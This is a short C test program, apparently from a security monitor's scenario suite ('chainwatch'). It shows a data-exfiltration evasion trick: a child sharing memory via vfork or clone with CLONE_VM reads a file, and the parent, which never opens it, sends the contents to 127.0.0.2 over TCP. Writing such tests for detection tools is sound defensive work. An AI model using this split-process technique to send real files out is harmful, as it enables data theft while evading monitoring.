/*
 * A child that shares its parent's memory (CLONE_VM) reads a file into it;
 * the parent, which never opens the file, sends what the child left there.
 * chainwatch test program (src/testing/scenarios.ts, buildSharedVmExfil).
 *
 *   shared-vm-exfil vfork   FILE PORT   vfork(2): the parent waits until the child exits
 *   shared-vm-exfil clonevm FILE PORT   clone(2) with CLONE_VM and a stack of its own, then waitpid
 *
 * Sends to 127.0.0.2:PORT; exits 0 when every byte read was sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[1 << 16];
static volatile ssize_t got = -1;
static const char *file;

static int child(void *arg) {
  (void)arg;
  int fd = open(file, O_RDONLY);
  if (fd >= 0) {
    got = read(fd, buf, sizeof buf);
    close(fd);
  }
  _exit(0);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: %s vfork|clonevm FILE PORT\n", argv[0]);
    return 2;
  }
  file = argv[2];
  if (strcmp(argv[1], "vfork") == 0) {
    pid_t p = vfork();
    if (p == 0) child(NULL);
    if (p < 0) return perror("vfork"), 1;
  } else {
    static char stack[1 << 16];
    pid_t p = clone(child, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
    if (p < 0) return perror("clone"), 1;
    if (waitpid(p, NULL, 0) != p) return perror("waitpid"), 1;
  }
  if (got <= 0) return fprintf(stderr, "the child read nothing\n"), 1;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[3])) };
  inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return perror("connect"), 1;
  ssize_t sent = write(s, buf, (size_t)got);
  close(s);
  return sent == got ? 0 : 1;
}
